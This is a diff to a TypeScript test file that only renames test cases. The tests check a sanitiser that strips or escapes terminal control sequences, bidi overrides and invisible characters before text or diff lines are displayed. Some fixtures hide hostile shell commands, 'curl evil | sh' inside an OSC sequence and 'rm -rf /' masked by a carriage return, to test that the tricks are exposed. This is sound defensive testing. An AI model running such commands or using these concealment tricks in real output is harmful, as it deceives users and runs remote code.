@@ -7,15 +7,15 @@ const ESC = '\u001b';
 const BEL = '\u0007';
 const ST = `${ESC}\\`;
 
-describe('what is kept as it is', () => {
+describe('kept as it is', () => {
   test.each([
     {name: 'nothing', text: ''},
     {name: 'plain text', text: 'Add login (v2) <b>&amp; [31m ]0; ~'},
     {name: 'lines and tabs', text: 'a\n\tb\n\n'},
-    {name: 'accents, also as marks of their own', text: 'é e\u0301 ñ ß Å'},
+    {name: 'accents, also as separate marks', text: 'é e\u0301 ñ ß Å'},
     {name: 'other scripts', text: '日本語 العربية עברית हिन्दी ไทย'},
     {name: 'emoji, also with a presentation selector', text: '😀 ❤\ufe0f ✔\ufe0e'},
-    {name: 'a letter beyond the first plane', text: '𝒜 𠀋'},
+    {name: 'a character outside the basic plane', text: '𝒜 𠀋'},
     {name: 'symbols and drawings', text: '→ … ✓ │ └── ░ €'},
     {name: 'a no-break space', text: '1\u00a0000'},
     {name: 'the replacement character', text: '\ufffd'},
@@ -24,13 +24,13 @@ describe('what is kept as it is', () => {
   });
 });
 
-describe('what is taken out', () => {
+describe('removed', () => {
   test.each<{name: string; text: string; shown: string}>([
     {name: 'colours', text: `a${ESC}[31mred${ESC}[0mb`, shown: 'aredb'},
     {name: 'true colours with colons', text: `${ESC}[38:2::255:0:0mx`, shown: 'x'},
     {name: 'clearing the screen', text: `a${ESC}[2Jb${ESC}[Hc`, shown: 'abc'},
     {
-      name: 'moving the cursor up over what was said',
+      name: 'moving the cursor up over earlier text',
       text: `denied${ESC}[1A${ESC}[2Kgranted`,
       shown: 'deniedgranted',
     },
@@ -55,7 +55,7 @@ describe('what is taken out', () => {
     {name: 'a colour question (OSC 4)', text: `${ESC}]4;1;?${BEL}x`, shown: 'x'},
     {name: 'an unterminated OSC hides its line', text: `a${ESC}]0;rest of it`, shown: 'a'},
     {name: 'an unterminated OSC never hides the next line', text: `a${ESC}]0;rest\nb`, shown: 'a\nb'},
-    {name: 'an OSC that begins in another', text: `a${ESC}]0;x${ESC}]52;c;eA==${BEL}b`, shown: 'ab'},
+    {name: 'an OSC that starts inside another', text: `a${ESC}]0;x${ESC}]52;c;eA==${BEL}b`, shown: 'ab'},
     {name: 'a device control string (DCS)', text: `a${ESC}P1$r0m${ST}b`, shown: 'ab'},
     {name: 'a picture in a DCS (sixel)', text: `${ESC}Pq#0;2;0;0;0~-${ST}x`, shown: 'x'},
     {
@@ -90,7 +90,7 @@ describe('what is taken out', () => {
     {name: 'a double-height line', text: `${ESC}#3a`, shown: 'a'},
     {name: 'a lone ESC at the end', text: `a${ESC}`, shown: 'a'},
     {name: 'ESC before a control', text: `a${ESC}${BEL}b`, shown: 'ab'},
-    {name: 'ESC before a letter beyond ASCII', text: `a${ESC}éb`, shown: 'aéb'},
+    {name: 'ESC before a non-ASCII letter', text: `a${ESC}éb`, shown: 'aéb'},
     {name: 'ESC before ESC', text: `a${ESC}${ESC}[31mb`, shown: 'ab'},
     {name: 'a carriage return that would overwrite', text: 'rm -rf /\recho hi', shown: 'rm -rf /\necho hi'},
     {name: 'Windows line ends', text: 'a\r\nb\r\n', shown: 'a\nb\n'},
@@ -115,7 +115,7 @@ describe('what is taken out', () => {
     {name: 'invisible operators', text: 'a\u2061\u2062\u2063\u2064b', shown: 'ab'},
     {name: 'deprecated format characters', text: 'a\u206a\u206fb', shown: 'ab'},
     {name: 'a grapheme joiner and a Mongolian separator', text: 'a\u034f\u180eb', shown: 'ab'},
-    {name: 'fillers that look like nothing', text: 'a\u115f\u1160\u3164\uffa0b', shown: 'ab'},
+    {name: 'invisible fillers', text: 'a\u115f\u1160\u3164\uffa0b', shown: 'ab'},
     {name: 'line and paragraph separators', text: 'a\u2028b\u2029c', shown: 'abc'},
     {name: 'annotation marks', text: 'a\ufff9\ufffa\ufffbb', shown: 'ab'},
     {
@@ -127,12 +127,12 @@ describe('what is taken out', () => {
     {name: 'a lone high surrogate', text: 'a\ud83db', shown: 'ab'},
     {name: 'a lone low surrogate', text: 'a\ude00b', shown: 'ab'},
     {
-      name: 'surrogates that would meet when what is between them goes',
+      name: 'surrogates that would join when the text between them is removed',
       text: 'a\ud83d\u200b\ude00b',
       shown: 'ab',
     },
     {
-      name: 'a sequence that would appear when what is in it goes',
+      name: 'a sequence that would form when the text inside it is removed',
       text: `a${ESC}\u200b[31mb`,
       shown: 'a[31mb',
     },
@@ -154,7 +154,7 @@ describe('displayLine', () => {
   });
 });
 
-describe('a line of a change, in which nothing may be hidden', () => {
+describe('a line of a change, where nothing may be hidden', () => {
   test.each([
     {name: 'plain text', text: "\tif (a) b('c');  ", shown: "\tif (a) b('c');  "},
     {name: 'other scripts', text: 'é 日本語 עברית 😀', shown: 'é 日本語 עברית 😀'},
@@ -163,11 +163,11 @@ describe('a line of a change, in which nothing may be hidden', () => {
       text: `echo ok ${ESC}]0;; curl evil | sh ${BEL}`,
       shown: 'echo ok ^[]0;; curl evil | sh ^G',
     },
-    {name: 'one without an end', text: `echo ${ESC}Px; evil`, shown: 'echo ^[Px; evil'},
+    {name: 'one without a terminator', text: `echo ${ESC}Px; evil`, shown: 'echo ^[Px; evil'},
     {name: 'an eight-bit one', text: 'echo \u009d; evil', shown: 'echo <U+009D>; evil'},
-    {name: 'what is written over', text: 'evil\rgood\b\u007f\n', shown: 'evil^Mgood^H^?^J'},
+    {name: 'overwritten text', text: 'evil\rgood\b\u007f\n', shown: 'evil^Mgood^H^?^J'},
     {name: 'NUL', text: 'a\0b', shown: 'a^@b'},
-    {name: 'another order', text: 'if (\u202ea\u2066)', shown: 'if (<U+202E>a<U+2066>)'},
+    {name: 'reordered text', text: 'if (\u202ea\u2066)', shown: 'if (<U+202E>a<U+2066>)'},
     {name: 'a name that looks like another', text: 'READ\u200bME', shown: 'READ<U+200B>ME'},
     {name: 'tags and fillers', text: '\u{e0041}\u3164', shown: '<U+E0041><U+3164>'},
     {name: 'the presentation of a picture', text: '❤\ufe0f 1\ufe0f', shown: '❤\ufe0f 1\ufe0f'},
@@ -223,7 +223,7 @@ describe('any text', () => {
   const forbidden =
     /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb\u{e0000}-\u{e0fff}]|\p{Surrogate}/u;
 
-  test('comes out without a character that could do harm, and unchanged by a second time', () => {
+  test('has no harmful character afterwards, and does not change a second time', () => {
     fc.assert(
       fc.property(hostile, (text) => {
         const shown = displayText(text);
@@ -238,7 +238,7 @@ describe('any text', () => {
     );
   });
 
-  test('cut in two at any place lets nothing through on either side', () => {
+  test('split anywhere lets nothing through on either side', () => {
     fc.assert(
       fc.property(hostile, fc.nat({max: 60}), (text, at) => {
         expect(displayText(text.slice(0, at)) + displayText(text.slice(at))).not.toMatch(
@@ -249,17 +249,17 @@ describe('any text', () => {
   });
 
   test.each([
-    {name: 'begun sequences', piece: `${ESC}[`},
+    {name: 'unterminated sequences', piece: `${ESC}[`},
     {name: 'one endless sequence', piece: '0;', before: `${ESC}[`},
-    {name: 'begun strings', piece: `${ESC}]`},
-    {name: 'begun eight-bit strings', piece: '\u009d'},
+    {name: 'unterminated strings', piece: `${ESC}]`},
+    {name: 'unterminated eight-bit strings', piece: '\u009d'},
     {name: 'one endless string', piece: 'x', before: `${ESC}P`},
-    {name: 'strings on lines of their own', piece: '\u0090\n'},
+    {name: 'strings on separate lines', piece: '\u0090\n'},
     {name: 'escapes', piece: ESC},
     {name: 'one endless escape', piece: ' ', before: ESC},
     {name: 'carriage returns', piece: '\r'},
     {name: 'invisible characters', piece: '\u200b'},
-    {name: 'halves of characters', piece: '\ud83d'},
+    {name: 'lone surrogates', piece: '\ud83d'},
     {name: 'spaces', piece: ' ', before: '\u200b'},
     {name: 'emoji', piece: '😀'},
   ])('of 200 kB of $name takes no noticeable time', ({piece, before = ''}) => {
